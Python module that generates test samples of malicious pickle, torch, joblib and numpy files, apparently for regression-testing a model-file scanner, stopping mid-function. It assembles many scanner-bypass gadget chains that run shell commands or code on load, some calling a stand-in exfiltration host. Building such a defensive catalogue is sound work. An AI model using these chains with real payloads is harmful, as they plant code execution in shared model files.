"""Builders of the bypass samples of anchors.md part (c), one or more files per technique.

Every builder takes the directory to write into and a :class:`Payload` (what the sample
would run if something loaded it), so the same catalogue serves the regression suite
(payload: ``echo``) and the canary test (payload: create a canary file). Files are written
by the real libraries (pickle, joblib, torch, numpy, zipfile, py7zr) wherever they can
produce the structure, and by the hand assembler in ``pickle_asm`` otherwise. Nothing here
loads anything.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import os
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from regression.pickle_asm import (
    binbytes,
    binint,
    call,
    dct,
    glob,
    lst,
    os_system,
    pkl,
    proto,
    proto0_system,
    sglob,
    sstr,
    tup,
    ustr,
)


@dataclass(frozen=True)
class Payload:
    """What a sample runs when loaded: a shell command and the same as Python source."""

    shell: str
    python: str


HARMLESS = Payload("echo hex-bypass", "print('hex-bypass')")


def canary_payload(path: Path) -> Payload:
    """A payload whose only effect, if it ever ran, is to create ``path``."""
    return Payload(f"echo x > {path}", f"open({str(path)!r}, 'w').close()")


@dataclass(frozen=True)
class Sample:
    """One file of the catalogue and what hex must report on it."""

    technique: str
    rel: str
    must_name: tuple[str, ...] = ()
    """Globals that some finding >= ``min_severity`` must name (evidence or description)."""
    min_severity: str = "CRITICAL"


@dataclass
class Catalogue:
    root: Path
    payload: Payload
    samples: list[Sample] = field(default_factory=list)

    def add(self, technique: str, rel: str, data: bytes, must_name: tuple[str, ...] = (),
            min_severity: str = "CRITICAL") -> None:
        path = self.root / technique / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.samples.append(Sample(technique, f"{technique}/{rel}", must_name, min_severity))

    def of(self, technique: str) -> list[Sample]:
        return [s for s in self.samples if s.technique == technique]


# ---------------------------------------------------------------------------- helpers


def _gadget(module: str, name: str, *args: bytes, protocol: int = 4) -> bytes:
    """``module.name(*args)`` through STACK_GLOBAL (the gadget is never imported here)."""
    return pkl(call(sglob(module, name), *args), protocol)


def _benign_pickle() -> bytes:
    import pickle

    return pickle.dumps({"weights": [0.5, 1.5], "name": "tiny"}, protocol=2)


def _torch_members(data_pkl: bytes | None = None) -> list[tuple[str, bytes]]:
    """The members of a real ``torch.save`` zip, optionally with another ``data.pkl``."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    if data_pkl is not None:
        members = [(n, data_pkl if n.endswith("/data.pkl") else d) for n, d in members]
    return members


def zip_of(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some samples
        with zipfile.ZipFile(buf, "w", compression) as zf:
            for name, data in members:
                zf.writestr(name, data)
    return buf.getvalue()


def _torch_zip(data_pkl: bytes) -> bytes:
    return zip_of(_torch_members(data_pkl))


def patch_zip_member(data: bytes, name: str, *, flag_or: int = 0, bad_crc: bool = False,
                     local_name: bytes | None = None) -> bytes:
    """Edit one member's headers in place (flag bits, CRC, local-header name)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    local = info.header_offset
    central = out.index(b"PK\x01\x02")  # the first central-directory entry
    while out[central + 46:central + 46 + len(name)] != name.encode():
        central = out.index(b"PK\x01\x02", central + 4)
    for pos in (local + 6, central + 8):
        struct.pack_into("<H", out, pos, struct.unpack_from("<H", out, pos)[0] | flag_or)
    if bad_crc:
        for pos in (local + 14, central + 16):
            struct.pack_into("<I", out, pos, struct.unpack_from("<I", out, pos)[0] ^ 0xFFFFFFFF)
    if local_name is not None:
        assert len(local_name) == len(name)
        out[local + 30:local + 30 + len(name)] = local_name
    return bytes(out)


class Reduce:
    """An object whose pickle calls ``func(*args)``: how real libraries write payloads."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return self.func, self.args


def _npy_header(dtype: str = "|O", version: tuple[int, int] = (1, 0)) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    header = {"descr": np.lib.format.dtype_to_descr(np.dtype(dtype)), "fortran_order": False,
              "shape": (1,)}
    writer = (np.lib.format.write_array_header_1_0 if version == (1, 0)
              else np.lib.format.write_array_header_2_0)
    writer(buf, header)
    return buf.getvalue()


# ---------------------------------------------------------------------------- A: denylist gaps


def _a_denylist(c: Catalogue) -> None:
    p = c.payload
    sh, py = ustr(p.shell), ustr(p.python)
    c.add("a1_package_install", "pip_main.pkl",
          _gadget("pip", "main", lst(ustr("install"), ustr("--no-index"), sh)), ("pip.main",))
    c.add("a1_package_install", "pip_internal.pkl",
          _gadget("pip._internal.cli.main", "main", lst(ustr("install"), sh)),
          ("pip._internal.cli.main.main",))
    torch_gadgets = {
        "collect_env_run": ("torch.utils.collect_env", "run", (sh,)),
        "collect_env_read_all": ("torch.utils.collect_env", "run_and_read_all",
                                 (sglob("torch.utils.collect_env", "run"), sh)),
        "dynamo_guard_get": ("torch._dynamo.guards", "GuardBuilder.get", (b"N", py)),
        "symbolic_shapes_eval": ("torch.fx.experimental.symbolic_shapes",
                                 "ShapeEnv.evaluate_guards_expression", (b"N", py, lst())),
        "exec_wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper",
                         (py, dct(), dct())),
        "config_module_load": ("torch.utils._config_module", "ConfigModule.load_config",
                               (b"N", binbytes(b"x"))),
        "datapipe_decoder": ("torch.utils.data.datapipes.utils.decoder", "basichandlers",
                             (ustr("pickle"), binbytes(os_system(p.shell)))),
        "inductor_compile": ("torch._inductor.codecache", "compile_file", (lst(), sh, lst(sh))),
        "bottleneck_cprofile": ("torch.utils.bottleneck.__main__", "run_cprofile",
                                (py, dct())),
        "serialization_load": ("torch.serialization", "load", (ustr("payload.pt"),)),
    }
    for short, (module, name, args) in torch_gadgets.items():
        c.add("a2_torch_internal_gadgets", f"{short}.pkl", _gadget(module, name, *args),
              (f"{module}.{name}",))
    runstring = {
        "cprofile_run": ("cProfile", "run"), "cprofile_runctx": ("cProfile", "runctx"),
        "profile_run": ("profile", "run"), "profile_runctx": ("profile", "Profile.runctx"),
        "trace_runctx": ("trace", "Trace.runctx"), "timeit": ("timeit", "timeit"),
        "code_runcode": ("code", "InteractiveInterpreter.runcode"),
        "doctest_debug": ("doctest", "debug_script"),
        "idle_pyshell": ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        "idle_run": ("idlelib.run", "Executive.runcode"),
        "idle_autocomplete": ("idlelib.autocomplete", "AutoComplete.get_entity"),
        "idle_calltip": ("idlelib.calltip", "Calltip.fetch_tip"),
        "idle_debugobj": ("idlelib.debugobj", "ObjectTreeItem.SetText"),
        "lib2to3_make_label": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        "lib2to3_grammar": ("lib2to3.pgen2.grammar", "Grammar.loads"),
        "ensurepip": ("ensurepip", "_run_pip"),
        "numpy_runstring": ("numpy.testing._private.utils", "runstring"),
        "f2py_getlincoef": ("numpy.f2py.crackfortran", "getlincoef"),
        "pydoc_pipepager": ("pydoc", "pipepager"),
        "runpy_run_code": ("runpy", "_run_code"),
    }
    for short, (module, name) in runstring.items():
        c.add("a3_stdlib_run_string", f"{short}.pkl", _gadget(module, name, py, dct()),
              (f"{module}.{name}",))
    hidden = {
        "uuid_command": ("uuid", "_get_command_stdout", (sh,)),
        "osx_support": ("_osx_support", "_read_output", (sh,)),
        "aix_support": ("_aix_support", "_read_cmd_output", (sh,)),
        "imap_stream": ("imaplib", "IMAP4_stream", (sh,)),
        "pyrepl_pager": ("_pyrepl.pager", "pipe_pager", (ustr("x"), sh)),
        "asyncio_transport": ("asyncio.unix_events", "_UnixSubprocessTransport._start",
                              (b"N", sh, b"\x88", b"N", b"N", b"N", binint(0))),
        "mp_spawnv": ("multiprocessing.util", "spawnv_passfds",
                      (ustr("/bin/sh"), lst(ustr("sh"), ustr("-c"), sh), lst())),
        "fork_exec": ("_posixsubprocess", "fork_exec", (lst(ustr("/bin/sh"), ustr("-c"), sh),)),
        "pty_spawn": ("pty", "spawn", (lst(ustr("/bin/sh"), ustr("-c"), sh),)),
        "platform_syscmd": ("platform", "_syscmd_file", (sh,)),
        "pipes_template": ("pipes", "Template.append", (b"N", sh, ustr("--"))),
        "imp_load_source": ("imp", "load_source", (ustr("m"), ustr("payload.py"))),
        "site_addsitedir": ("site", "addsitedir", (ustr("payload_dir"),)),
        "atexit_register": ("atexit", "register", (sglob("builtins", "print"), sh)),
    }
    for short, (module, name, args) in hidden.items():
        c.add("a4_hidden_subprocess", f"{short}.pkl", _gadget(module, name, *args),
              (f"{module}.{name}",))
    _a5_code_objects(c)
    _a6_trampolines(c)
    _a7_io(c)
    _a8_third_party(c)
    _a9_second_stage(c)


def _a5_code_objects(c: Catalogue) -> None:
    code = marshal.dumps(compile(c.payload.python, "<payload>", "exec"))
    func = call(sglob("types", "FunctionType"),
                call(sglob("marshal", "loads"), binbytes(code)), dct())
    c.add("a5_code_objects", "functiontype_marshal.pkl", pkl(call(func), 4),
          ("types.FunctionType", "marshal.loads"))
    source = c.payload.python

    def payload_function() -> None:  # pickled by value (a closure), never called here
        exec(source)  # noqa: S102

    for library, must in (("cloudpickle", "cloudpickle.cloudpickle._make_function"),
                          ("dill", "dill._dill._create_code")):
        try:
            module = __import__(library)
        except ImportError:  # optional writers: the hand-written streams below always run
            continue
        data = module.dumps(payload_function, **({"recurse": True} if library == "dill" else {}))
        c.add("a5_code_objects", f"{library}_real_function.pkl", data, (must,))
    dill_code = call(sglob("dill._dill", "_create_code"), binint(0), binint(0), binint(0),
                     binint(1), binint(64), binbytes(code), tup(), tup(), tup(),
                     ustr("<payload>"), ustr("<module>"), binint(1), binbytes(b""))
    dill_func = call(sglob("dill._dill", "_create_function"), dill_code, dct(), ustr("f"))
    c.add("a5_code_objects", "dill_function.pkl", pkl(call(dill_func), 4),
          ("dill._dill._create_code", "dill._dill._create_function"))
    cp_type = call(sglob("cloudpickle.cloudpickle", "_builtin_type"), ustr("CodeType"))
    c.add("a5_code_objects", "cloudpickle_codetype.pkl",
          pkl(call(cp_type, binint(0), binbytes(code)), 4),
          ("cloudpickle.cloudpickle._builtin_type",))


def _a6_trampolines(c: Catalogue) -> None:
    sh = ustr(c.payload.shell)
    t = "a6_dynamic_resolution"
    c.add(t, "pkgutil_resolve_name.pkl",
          pkl(call(call(sglob("pkgutil", "resolve_name"), ustr("os:system")), sh), 4),
          ("pkgutil.resolve_name", "os.system"))
    c.add(t, "pydoc_locate.pkl",
          pkl(call(call(sglob("pydoc", "locate"), ustr("os.system")), sh), 4),
          ("pydoc.locate", "os.system"))
    os_mod = call(sglob("importlib", "import_module"), ustr("os"))
    c.add(t, "methodcaller.pkl",
          pkl(call(call(sglob("operator", "methodcaller"), ustr("system"), sh), os_mod), 4),
          ("operator.methodcaller", "os.system"))
    c.add(t, "attrgetter.pkl",
          pkl(call(call(call(sglob("_operator", "attrgetter"), ustr("system")), os_mod), sh), 4),
          ("_operator.attrgetter", "os.system"))
    joined = call(sglob("builtins", "str.join"), ustr(""), lst(ustr("sys"), ustr("tem")))
    imported = call(sglob("builtins", "__import__"), ustr("os"))
    c.add(t, "getattr_join.pkl",
          pkl(call(call(sglob("builtins", "getattr"), imported, joined), sh), 4),
          ("builtins.getattr", "os.system"))
    c.add(t, "functools_partial.pkl",
          pkl(call(call(sglob("functools", "partial"), sglob("os", "system"), sh)), 4),
          ("functools.partial", "os.system"))
    c.add(t, "gc_get_objects.pkl", _gadget("gc", "get_objects"), ("gc.get_objects",))
    c.add(t, "inspect_getmodule.pkl",
          _gadget("inspect", "getmodule", sglob("os", "path")), ("inspect.getmodule",))
    frozen = call(sglob("_frozen_importlib", "_gcd_import"), ustr("os"))
    c.add(t, "frozen_importlib.pkl",
          pkl(call(call(sglob("builtins", "getattr"), frozen, ustr("system")), sh), 4),
          ("_frozen_importlib._gcd_import", "os.system"))
    c.add(t, "frozen_importlib_external.pkl",
          _gadget("_frozen_importlib_external", "SourceFileLoader", ustr("m"), ustr("x.py")),
          ("_frozen_importlib_external.SourceFileLoader",))
    c.add(t, "imp_builtin.pkl", _gadget("_imp", "create_builtin", b"N"), ("_imp.create_builtin",))


def _a7_io(c: Catalogue) -> None:
    t = "a7_read_write_exfiltrate"
    url = ustr("http://hex-bypass.invalid/?d=x")
    cases = {
        "fileio.pkl": ("_io", "FileIO", (ustr("hex-bypass.txt"), ustr("w"))),
        "io_open.pkl": ("io", "open", (ustr("hex-bypass.txt"), ustr("w"))),
        "logging_filehandler.pkl": ("logging", "FileHandler", (ustr("hex-bypass.log"),)),
        "distutils_write_file.pkl": ("distutils.file_util", "write_file",
                                     (ustr("hex-bypass.txt"), lst(ustr("x")))),
        "linecache.pkl": ("linecache", "getline", (ustr("/etc/hostname"), binint(1))),
        "urlopen.pkl": ("urllib.request", "urlopen", (url,)),
        "ssl_cert.pkl": ("ssl", "get_server_certificate",
                         (tup(ustr("hex-bypass.invalid"), binint(443)),)),
        "smtplib.pkl": ("smtplib", "SMTP", (ustr("hex-bypass.invalid"),)),
        "webbrowser.pkl": ("webbrowser", "open", (url,)),
        "pandas_read_csv.pkl": ("pandas.io.parsers.readers", "read_csv", (url,)),
        "path_write_text.pkl": ("pathlib", "Path.write_text",
                                (call(sglob("pathlib", "Path"), ustr("hex-bypass.txt")),
                                 ustr(c.payload.python))),
    }
    for rel, (module, name, args) in cases.items():
        c.add(t, rel, _gadget(module, name, *args), (f"{module}.{name}",))


def _a8_third_party(c: Catalogue) -> None:
    sh = ustr(c.payload.shell)
    t = "a8_third_party_gadgets"
    cases = {
        "mlflow_entry_point.pkl": ("mlflow.projects.backend.local", "_run_entry_point",
                                   (sh, ustr("."), ustr("x"), dct())),
        "ipython_system.pkl": ("IPython.utils.process", "system", (sh,)),
        "ctypes_cdll.pkl": ("ctypes", "CDLL", (ustr("libc.so.6"),)),
        "venv_create.pkl": ("venv", "create", (ustr("hex-venv"),)),
        "keras_get_file.pkl": ("keras.utils", "get_file",
                               (ustr("x"), ustr("http://hex-bypass.invalid/x"))),
    }
    for rel, (module, name, args) in cases.items():
        c.add(t, rel, _gadget(module, name, *args), (f"{module}.{name}",))


def _a9_second_stage(c: Catalogue) -> None:
    inner = os_system(c.payload.shell)
    t = "a9_second_stage_loaders"
    c.add(t, "pickle_loads.pkl", _gadget("pickle", "loads", binbytes(inner)),
          ("pickle.loads", "posix.system"))
    c.add(t, "_pickle_loads.pkl", _gadget("_pickle", "loads", binbytes(inner)),
          ("_pickle.loads", "posix.system"))
    c.add(t, "torch_load_from_bytes.pkl",
          _gadget("torch.storage", "_load_from_bytes", binbytes(inner)), ("posix.system",))
    c.add(t, "torch_load.pkl", _gadget("torch", "load", ustr("second.pt")), ("torch.load",))
    c.add(t, "numpy_load.pkl", _gadget("numpy", "load", ustr("second.npy"), b"\x88"),
          ("numpy.load",))
    c.add(t, "joblib_load.pkl", _gadget("joblib", "load", ustr("second.joblib")),
          ("joblib.load",))


# ---------------------------------------------------------------------------- B: VM modelling


def _b_vm(c: Catalogue) -> None:
    p = c.payload
    sh = ustr(p.shell)
    # B1: MEMOIZE stores at len(memo); an explicit BINPUT 2 first makes the next MEMOIZE
    # overwrite slot 2, so a scanner that numbers MEMOIZEs by count resolves os.getcwd.
    body = (ustr("os") + b"\x94" + ustr("getcwd") + b"q\x02" + b"0" + ustr("system") + b"\x94"
            + b"0" + b"h\x00" + b"h\x02" + b"\x93" + tup(sh) + b"R")
    c.add("b1_memo_index_confusion", "memoize.pkl", pkl(body, 4), ("os.system",))
    # B2 (modelscan #85): BUILD sets numpy.prod.a/.b, GLOBAL numpy prod.a reads them back.
    body = (glob("numpy", "prod") + b"}" + b"(" + ustr("a") + ustr("os") + ustr("b")
            + ustr("system") + b"u" + b"b" + b"0" + glob("numpy", "prod.a") + b"\x94"
            + glob("numpy", "prod.b") + b"\x94" + b"0" + b"0" + b"h\x00" + b"h\x01" + b"\x93"
            + tup(sh) + b"R")
    c.add("b2_build_overwrites_allowlisted", "numpy_prod.pkl", pkl(body, 4), ("os.system",))
    # B3: STACK_GLOBAL with STRING/BINSTRING operands at opcode 0, no PROTO.
    operand = b"T" + struct.pack("<i", 6) + b"system"
    c.add("b3_stack_global_at_start", "no_proto.pkl",
          b"S'os'\n" + operand + b"\x93" + b"(" + sstr(p.shell) + b"tR.", ("os.system",))
    # B4: a GET of a never-stored memo key feeds STACK_GLOBAL.
    c.add("b4_missing_memo_key", "binget_unknown.pkl",
          pkl(b"h\x09" + ustr("system") + b"\x93" + tup(sh) + b"R", 4), (), "MEDIUM")
    c.add("b5_dotted_name", "pathlib_os_system.pkl",
          pkl(call(sglob("pathlib", "os.system"), sh), 4), ("os.system",))
    c.add("b5_dotted_name", "torch_serialization_os.pkl",
          pkl(call(glob("torch", "serialization.os.system"), sh)), ("os.system",))
    c.add("b6_submodule_of_denylisted", "asyncio_submodule.pkl",
          _gadget("asyncio.unix_events", "_UnixSubprocessTransport._start", b"N", sh),
          ("asyncio.unix_events._UnixSubprocessTransport._start",))
    c.add("b7_call_result_discarded", "reduce_pop.pkl",
          pkl(call(glob("posix", "system"), sh) + b"0" + b"N"), ("posix.system",))
    c.add("b7_call_result_discarded", "obj_pop.pkl",
          pkl(b"(" + glob("posix", "system") + sh + b"o" + b"0" + b"N"), ("posix.system",))
    _b8_unmodelled(c)
    _b9_frame(c)
    t = "b10_allowlist_matching"
    c.add(t, "sklearn_prefix.pkl", _gadget("sklearn.ensemble._anything", "execute", sh),
          ("sklearn.ensemble._anything.execute",), "HIGH")
    c.add(t, "numpy_prefix.pkl", _gadget("numpy.anything", "execute", sh),
          ("numpy.anything.execute",), "HIGH")
    c.add(t, "torch_nn_call.pkl", _gadget("torch.nn.modules.module", "Module.__getattr__",
                                          b"N", sh), ("torch.nn.modules.module.Module",))
    decoys = b"".join(sglob("torch._utils", "_rebuild_tensor_v2") + b"0" for _ in range(40))
    decoys += b"".join(sglob("torch.nn.modules.linear", "Linear") + b"0" for _ in range(40))
    c.add("b11_ml_context_laundering", "torch_decoys.pkl",
          pkl(decoys + call(sglob("posix", "system"), sh), 4), ("posix.system",))
    t = "b12_private_stdlib"
    c.add(t, "interpreters.pkl", _gadget("_interpreters", "run_string", binint(0),
                                         ustr(p.python)), ("_interpreters.run_string",))
    c.add(t, "xxsubinterpreters.pkl", _gadget("_xxsubinterpreters", "run_string", binint(0),
                                              ustr(p.python)),
          ("_xxsubinterpreters.run_string",))
    c.add(t, "operator_alias.pkl",
          pkl(call(call(call(sglob("_operator", "attrgetter"), ustr("system")),
                        call(sglob("_frozen_importlib", "_gcd_import"), ustr("os"))), sh), 4),
          ("_operator.attrgetter",))
    c.add(t, "posixsubprocess.pkl", _gadget("_posixsubprocess", "fork_exec", sh),
          ("_posixsubprocess.fork_exec",))


def _b8_unmodelled(c: Catalogue) -> None:
    sh = ustr(c.payload.shell)

    def u8(text: str) -> bytes:
        return b"\x8d" + struct.pack("<Q", len(text)) + text.encode()

    t = "b8_unmodelled_opcodes"
    c.add(t, "binunicode8.pkl", pkl(u8("posix") + u8("system") + b"\x93" + tup(sh) + b"R", 4),
          ("posix.system",))
    c.add(t, "newobj_ex.pkl",
          pkl(sglob("subprocess", "Popen") + tup(lst(ustr("/bin/sh"), ustr("-c"), sh)) + b"}"
              + b"\x92", 4), ("subprocess.Popen",))
    c.add(t, "ext1.pkl", pkl(b"\x82\x07" + tup(sh) + b"R", 4), (), "HIGH")
    c.add(t, "ext4.pkl", pkl(b"\x84" + struct.pack("<i", 0x10000) + tup(sh) + b"R", 4), (),
          "HIGH")


def _b9_frame(c: Catalogue) -> None:
    """A BINBYTES whose length runs past its FRAME: one reading sees one bytes value, the
    other (a frame-respecting reader) sees the opcodes after the frame end."""
    hidden = glob("posix", "system") + b"(" + sstr(c.payload.shell) + b"tR."
    inside = b"B" + struct.pack("<I", 4 + len(hidden)) + b"abcd"
    frame = b"\x95" + struct.pack("<Q", len(inside))
    c.add("b9_frame_boundary", "frame_overrun.pkl", proto(4) + frame + inside + hidden + b".",
          ("posix.system",))


# ---------------------------------------------------------------------------- C: malformed


def _c_malformed(c: Catalogue) -> None:
    p = c.payload
    sh = ustr(p.shell)
    broken = proto(2) + call(glob("posix", "system"), sh) + b"\xff\xfe garbage"
    c.add("c1_broken_pickle", "nullifai.pkl", broken, ("posix.system",))
    c.add("c2_error_outranked_by_finding", "broken_exit_code.pkl", broken, ("posix.system",))
    # C3: a PROTO 2 header followed by protocol-4 opcodes: CPython does not check them.
    c.add("c3_protocol_mismatch", "proto2_with_v4_ops.pkl",
          proto(2) + b"\x8c\x05posix\x94\x8c\x06system\x94\x93" + tup(sh) + b"R.",
          ("posix.system",))
    c.add("c3_protocol_mismatch", "proto1_with_v5_ops.pkl",
          b"\x8c\x05posix\x8c\x06system\x93" + b"\x96" + struct.pack("<Q", 2) + b"ab0"
          + tup(sh) + b"R.", ("posix.system",))
    # C4: crash/hang bait after the payload: deep MARK nesting and an absurd length.
    c.add("c4_crash_bait", "deep_marks.pkl",
          proto(2) + call(glob("posix", "system"), sh) + b"0" + b"(" * 50_000 + b".",
          ("posix.system",))
    c.add("c4_crash_bait", "huge_length.pkl",
          proto(4) + call(glob("posix", "system"), sh) + b"\x8d" + struct.pack("<Q", 1 << 62),
          ("posix.system",))
    c.add("c4_crash_bait", "deep_tuples.pkl",
          proto(2) + call(glob("posix", "system"), sh) + b"0" + b"N" + b"\x85" * 200_000 + b".",
          ("posix.system",))
    # C5: legacy torch layout whose magic number is computed (int('...', 16)), payload last.
    magic = pkl(call(glob("builtins", "int"), ustr("1950a86a20f9469cfc6c"), binint(16)))
    legacy = magic + pkl(b"M\xe9\x03") + pkl(b"}") + os_system(p.shell)
    c.add("c5_computed_legacy_magic", "magic_bypass.pt", legacy, ("posix.system",))


# ---------------------------------------------------------------------------- D: containers


def _d_containers(c: Catalogue) -> None:
    import py7zr

    p = c.payload
    mal = os_system(p.shell)
    members = _torch_members(mal)
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writestr(data, name)
    c.add("d1_7z_wrapped_torch", "torch_members.7z", buf.getvalue(), ("posix.system",))
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.writestr(zip_of(members), "model.pt")
    c.add("d1_7z_wrapped_torch", "torch_zip_inside.7z", buf.getvalue(), ("posix.system",))
    t = "d2_disguised_raw_pickle"
    for rel in ("model.bin", "model.pt", "model.txt", "model", "model.safetensors",
                "weights.dat"):
        c.add(t, rel, mal, ("posix.system",))
    c.add(t, "proto0.bin", proto0_system(p.shell), ("os.system",))
    c.add(t, "proto1.pt", b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(p.shell))
          + p.shell.encode() + b"tR.", ("os.system",))
    _d3_headers(c, members)
    _d5_d6(c, mal, members)
    _d7_joblib(c)
    _d8_polyglot(c, mal, members)
    legacy = (pkl(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19") + pkl(b"M\xe9\x03")
              + pkl(b"}") + _benign_pickle() + mal)
    c.add("d9_legacy_stacked_payload", "legacy.pt", legacy, ("posix.system",))
    _d10_numpy(c, mal)
    zip_members = [(n, d) for n, d in members if not n.endswith("/data.pkl")]
    c.add("d11_extensionless_member", "proto0_member.pt",
          zip_of([*zip_members, ("archive/data", proto0_system(p.shell))]), ("os.system",))
    c.add("d11_extensionless_member", "proto1_member.zip",
          zip_of([("payload", b"cos\nsystem\nq\x00(" + sstr(p.shell) + b"tR.")]),
          ("os.system",))
    benign = _torch_members()
    t = "d12_extra_pickles_in_torch_zip"
    c.add(t, "storage_name.pt", zip_of([*benign, ("archive/data/7", mal)]), ("posix.system",))
    c.add(t, "extra_pkl.pt", zip_of([*benign, ("archive/extra.pkl", mal)]), ("posix.system",))
    c.add(t, "serialization_id.pt",
          zip_of([(n, mal if n.endswith("serialization_id") else d) for n, d in benign]),
          ("posix.system",))


def _d3_headers(c: Catalogue, members: list[tuple[str, bytes]]) -> None:
    data = zip_of(members)
    name = next(n for n, _ in members if n.endswith("/data.pkl"))
    t = "d3_zip_header_tricks"
    c.add(t, "local_name_mismatch.pt",
          patch_zip_member(data, name, local_name=name[:-1].encode() + b"X"), ("posix.system",))
    for bit in (0x1, 0x20, 0x40):
        c.add(t, f"flag_{bit:#04x}.pt", patch_zip_member(data, name, flag_or=bit),
              ("posix.system",))
    c.add("d4_bad_crc", "bad_crc.pt", patch_zip_member(data, name, bad_crc=True),
          ("posix.system",))
    deflated = zip_of(members, zipfile.ZIP_DEFLATED)
    c.add("d4_bad_crc", "bad_crc_deflated.pt", patch_zip_member(deflated, name, bad_crc=True),
          ("posix.system",))


def _d5_d6(c: Catalogue, mal: bytes, members: list[tuple[str, bytes]]) -> None:
    benign = _torch_members()
    pkl_name = next(n for n, _ in benign if n.endswith("/data.pkl"))
    benign_pkl = dict(benign)[pkl_name]
    others = [(n, d) for n, d in benign if n != pkl_name]
    c.add("d5_duplicate_names", "malicious_first.pt",
          zip_of([(pkl_name, mal), *others, (pkl_name, benign_pkl)]), ("posix.system",))
    c.add("d5_duplicate_names", "malicious_last.pt",
          zip_of([(pkl_name, benign_pkl), *others, (pkl_name, mal)]), ("posix.system",))
    t = "d6_nested_archives"
    torch_zip = zip_of(members)
    c.add(t, "zip_in_zip.zip", zip_of([("inner.zip", zip_of([("model.pt", torch_zip)]))]),
          ("posix.system",))
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as tf:
        info = tarfile.TarInfo("model/model.pt")
        info.size = len(torch_zip)
        tf.addfile(info, io.BytesIO(torch_zip))
    c.add(t, "torch_in_tgz.tar.gz", tar.getvalue(), ("posix.system",))
    c.add(t, "gz_in_zip.zip", zip_of([("model.pkl.gz", gzip.compress(mal))]),
          ("posix.system",))


def _d7_joblib(c: Catalogue) -> None:
    import joblib

    obj = {"model": Reduce(os.system, c.payload.shell), "weights": [1.0, 2.0]}
    t = "d7_compressed_joblib"
    for method in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
        path = c.root / t / f"model_{method}.joblib"
        path.parent.mkdir(parents=True, exist_ok=True)
        joblib.dump(obj, path, compress=(method, 3))
        c.samples.append(Sample(t, f"{t}/{path.name}", ("posix.system",)))
    c.add(t, "model.pkl.gz", gzip.compress(os_system(c.payload.shell)), ("posix.system",))
    c.add(t, "model.pkl.bz2", bz2.compress(os_system(c.payload.shell)), ("posix.system",))
    c.add(t, "model.joblib.z", zlib.compress(os_system(c.payload.shell)), ("posix.system",))
    c.add(t, "model.pkl.xz", lzma.compress(os_system(c.payload.shell)), ("posix.system",))


def _d8_polyglot(c: Catalogue, mal: bytes, members: list[tuple[str, bytes]]) -> None:
    t = "d8_pickle_zip_polyglot"
    benign_zip = zip_of([("readme.txt", b"a benign zip")])
    c.add(t, "payload_head_benign_zip.pkl", proto0_system(c.payload.shell) + benign_zip,
          ("os.system",))
    c.add(t, "benign_head_torch_zip.pkl", _benign_pickle() + zip_of(members),
          ("posix.system",))
    c.add(t, "benign_head_torch_zip.pt", _benign_pickle() + zip_of(members),
          ("posix.system",))


def _d10_numpy(c: Catalogue, mal: bytes) -> None:
    t = "d10_numpy_object_arrays"
    npy = _npy_header() + mal
    c.add(t, "object.npy", npy, ("posix.system",))
    c.add(t, "object_v2.npy", _npy_header(version=(2, 0)) + mal, ("posix.system",))
    c.add(t, "structured_object_field.npy", _npy_header("O,<f4") + mal, ("posix.system",))
    c.add(t, "object.npz", zip_of([("arr_0.npy", npy)], zipfile.ZIP_DEFLATED),
          ("posix.system",))
    good = io.BytesIO()
    import numpy as np

    np.save(good, np.arange(4.0))
    c.add(t, "mixed.npz", zip_of([("a.npy", good.getvalue()), ("b.npy", npy)]),
          ("posix.system",))


# ---------------------------------------------------------------------------- E, F, G


def _e_allowlisted(c: Catalogue) -> None:
    p = c.payload
    sh, py = ustr(p.shell), ustr(p.python)
    # E1 (modelscan #330): numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size,
    # 'eval') returns eval.
    body = (glob("numpy", "size") + b"\x94" + dct(shape=glob("numpy", "__builtins__")) + b"b0"
            + call(call(b"h\x00", b"h\x00", ustr("eval")), py))
    c.add("e1_numpy_size_builtins", "numpy_size_eval.pkl", pkl(body, 4), ("numpy.__builtins__",))
    # E2: BUILD plants posix.system as OrderedDict.fromkeys, then GLOBAL reads it back.
    body = (glob("collections", "OrderedDict") + dct(fromkeys=glob("posix", "system")) + b"b0"
            + call(glob("collections", "OrderedDict.fromkeys"), sh))
    c.add("e2_build_on_allowlisted_class", "ordereddict_fromkeys.pkl", pkl(body),
          ("posix.system",))
    t = "e3_allowlisted_trampolines"
    c.add(t, "rebuild_from_type.pkl",
          _gadget("torch._tensor", "_rebuild_from_type_v2", sglob("hexdemo.gadgets", "run"),
                  sglob("torch", "Tensor"), tup(sh), dct()), ("hexdemo.gadgets.run",), "HIGH")
    c.add(t, "randomstate_ctor.pkl",
          _gadget("numpy.random._pickle", "__randomstate_ctor", sh,
                  sglob("hexdemo.gadgets", "run")), ("hexdemo.gadgets.run",), "HIGH")
    c.add(t, "reconstructor_base_init.pkl",
          _gadget("copyreg", "_reconstructor", sglob("collections", "OrderedDict"),
                  sglob("hexdemo.gadgets", "Runner"), sh), ("hexdemo.gadgets.Runner",), "HIGH")
    hooks = call(glob("collections", "OrderedDict"), lst(tup(binint(0),
                                                             glob("posix", "system"))))
